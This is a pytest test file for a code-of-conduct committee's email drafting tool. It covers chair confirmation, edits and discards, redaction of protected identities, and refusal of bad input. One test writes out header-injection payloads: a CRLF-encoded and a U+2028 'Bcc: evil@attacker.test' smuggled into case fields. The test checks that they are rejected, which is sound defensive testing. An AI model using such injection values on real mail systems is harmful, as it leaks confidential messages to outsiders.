"""Drafts over real SMTP: nothing leaves the committee before the chair's #confirm;
edits, discards, the redaction check, header injection and missing fields."""

from __future__ import annotations

import pytest
from casekit import (
    ORIGINATOR,
    PUBLIC,
    REPORTER,
    WITNESS,
    WITNESS_NAME,
    draft_ids,
    leaks,
    open_case,
    start_server,
)

from mailflow.testing import CHAIR, M1, M2

PEOPLE = f"#originator Sam Sharp <{ORIGINATOR}>\n#witness {WITNESS_NAME} <{WITNESS}>\n"
REPRIMAND = """#send private-reprimand to=originator
behaviour: On 3 May in #general you called another contributor's patch "garbage"
and wrote that "people like that" should leave the project.
impact: Newcomers read that thread; one stopped contributing.
change: Criticise code, not people, and keep to the Code of Conduct.
consequences: A further incident may lead to a temporary ban.
#end
"""


@pytest.fixture
def server(tmp_path, relay):
    s = start_server(tmp_path, relay)
    yield s
    s.stop()


def test_a_draft_leaves_only_on_the_chairs_confirm_cc_the_committee(server, relay):
    case = open_case(server, relay)
    transcript = case.command(M1, PEOPLE + REPRIMAND)
    assert "All commands were applied." in transcript
    [draft] = draft_ids(transcript)
    chair_copy = case.draft_mail(draft)
    assert f"#confirm {draft}" in chair_copy.body()
    assert 'called another contributor\'s patch "garbage"' in chair_copy.body()
    assert not relay.to(ORIGINATOR)

    # A member's #confirm, proven by their own token, is refused and sends nothing.
    refused = case.command(M1, f"#confirm {draft}")
    assert "only the chair may use #confirm" in refused
    assert "Nothing in this message was applied." in refused
    assert not relay.to(ORIGINATOR)

    sent = case.confirm(draft)
    assert f"draft {draft} sent to the originator" in sent and "cc the committee" in sent
    [mail] = relay.wait_for(lambda c: ORIGINATOR in c.rcpts, what="the reprimand")
    # The reprimand goes to the originator, with the committee in copy, from conduct@:
    # the same message to each member, each by the member's way (encrypted, if keyed).
    assert mail.rcpts == [ORIGINATOR]
    copies = relay.wait_for(lambda c: c.msg["Message-ID"] == mail.msg["Message-ID"]
                            and c.rcpts != [ORIGINATOR], count=3, what="the members' copies")
    assert sorted(r for c in copies for r in c.rcpts) == sorted([CHAIR, M1, M2])
    assert {c.raw for c in copies} == {mail.raw}
    assert mail.msg["To"] == f"Sam Sharp <{ORIGINATOR}>"
    assert mail.msg["Cc"] == "committee@example.org"
    assert mail.msg["From"].endswith("<conduct@example.org>")
    assert mail.msg["Reply-To"].startswith("conduct+")
    assert "private reprimand" in mail.msg["Subject"]
    assert "Newcomers read that thread" in mail.body()
    assert leaks(mail) == []
    assert f"draft {draft} was already sent" in case.confirm(draft)
    assert len(relay.to(ORIGINATOR)) == 1


def test_edit_replaces_the_draft_and_discard_drops_one(server, relay):
    case = open_case(server, relay)
    transcript = case.command(M1, PEOPLE + "#send information-request to=witness\n"
                              "questions: What did you see in #general on 3 May?\n#end\n")
    [first] = draft_ids(transcript)
    edited = case.command(CHAIR, f"#edit {first}\nSubject: A question about 3 May\n"
                          "Dear Kim,\n\nCould you tell us what you saw in #general on 3 May?\n"
                          "#end\n", reply_to=case.draft_mail(first))
    second = first + 1
    assert f"draft {first} replaced by draft {second}" in edited
    assert "Could you tell us" in case.draft_mail(second).body()
    # The replaced text can no longer be confirmed: the chair confirms what they read.
    assert f"draft {first} was replaced by draft {second}" in case.confirm(first)
    case.confirm(second)
    [mail] = relay.wait_for(lambda c: WITNESS in c.rcpts, what="the question")
    assert mail.rcpts == [WITNESS]
    assert mail.msg["Subject"] == "A question about 3 May"
    assert mail.body().replace("\r\n", "\n").startswith("Dear Kim,\n\nCould you tell us")

    [third] = draft_ids(case.command(M2, "#send review-acknowledgement to=originator\n#end\n"))
    assert f"only the chair or {M2} may discard" in case.command(M1, f"#discard {third}")
    assert f"draft {third} discarded" in case.command(M2, f"#discard {third}")
    assert f"draft {third} was already discarded" in case.confirm(third)
    assert not relay.to(ORIGINATOR)


def test_protected_identities_are_refused_until_consent(server, relay):
    case = open_case(server, relay)
    ask = ("#send information-request to=originator\nquestions: Rita Moreno "
           "(rita.moreno@people.test) and Kim say you insulted her. Did you?\n#end\n")
    handle = "#witness @kl_watch on the chat\n#send outcome to=originator\noutcome: As " \
             "kl_watch saw, ...\n#end\n"
    refused = case.command(M1, PEOPLE + ask)
    assert "refused: the text names people whose identity is protected" in refused
    for match in ("the reporter's address 'rita.moreno@people.test' (line 7)",
                  "the reporter's name 'Rita Moreno'", "a witness's name 'Kim'"):
        assert match in refused
    assert "a witness's handle 'kl_watch' (line " in case.command(M1, PEOPLE + handle)
    assert "Nothing in this message was applied." in refused
    assert server.query("SELECT count(*) FROM drafts")[0][0] == 0

    # The reporter agreed to be named; the witness did not.
    still = case.command(M1, PEOPLE + "#consent reporter\n" + ask)
    assert "a witness's name 'Kim'" in still and "rita.moreno" not in still.split("refused")[1]
    fine = ask.replace(" and Kim say", " says")
    [draft] = draft_ids(case.command(M1, PEOPLE + "#consent reporter\n" + fine))
    case.confirm(draft)
    [mail] = relay.wait_for(lambda c: ORIGINATOR in c.rcpts, what="the question")
    assert "Rita Moreno (rita.moreno@people.test) says" in mail.body()

    # Withdrawn consent protects the reporter again, even for a draft already made.
    [again] = draft_ids(case.command(M1, "#send information-request to=originator\n"
                                         "questions: Rita asks for an apology.\n#end\n"))
    case.command(M1, "#consent reporter withdraw")
    assert "the reporter's name 'Rita'" in case.confirm(again)
    assert len(relay.to(ORIGINATOR)) == 1


def test_header_injection_through_a_case_field_is_refused(server, relay):
    case = open_case(server, relay)
    refused = case.command(M1, "#channel #general%0D%0ABcc: evil@attacker.test\n"
                               "#send public-reminder to=public\nbehaviour: people were "
                               "insulted.\nwhy: Insults drive contributors away.\n#end\n")
    assert "refused: a line break in the Subject header" in refused
    assert server.query("SELECT count(*) FROM drafts")[0][0] == 0
    # The same with a real line separator inside a field that reaches the subject.
    refused = case.command(M1, PEOPLE + "#send leave-event to=originator\n"
                               "event: Hackathon\u2028Bcc: evil@attacker.test\n"
                               "behaviour: b\nrefund: none\n#end\n")
    assert "refused: a line break in the Subject header" in refused
    # Nothing was sent anywhere but to the committee.
    assert not [c for c in relay.received if "evil@attacker.test" in c.rcpts
                or PUBLIC in c.rcpts or ORIGINATOR in c.rcpts]


def test_a_missing_template_field_is_named(server, relay):
    case = open_case(server, relay)
    missing = case.command(M1, PEOPLE + "#send private-reprimand to=originator\n"
                                        "behaviour: insults\n#end\n")
    assert "template private-reprimand: missing fields: impact, change, consequences" in missing
    no_ban = case.command(M1, PEOPLE + "#send ban-notice to=originator\nconditions: x\n#end\n")
    assert "missing field: ban (record it with #ban first)" in no_ban
    unknown = case.command(M1, PEOPLE + "#send outcome to=reporter\noutcome: done\n"
                                        "reply_address: evil@attacker.test\n#end\n")
    assert "has no field reply_address" in unknown
    swallowed = case.command(M1, PEOPLE + "#send outcome to=reporter\noutcome: done\n#note x\n")
    assert "is inside the fields of #send" in swallowed
    assert not relay.to(REPORTER)[1:]  # only the acknowledgement
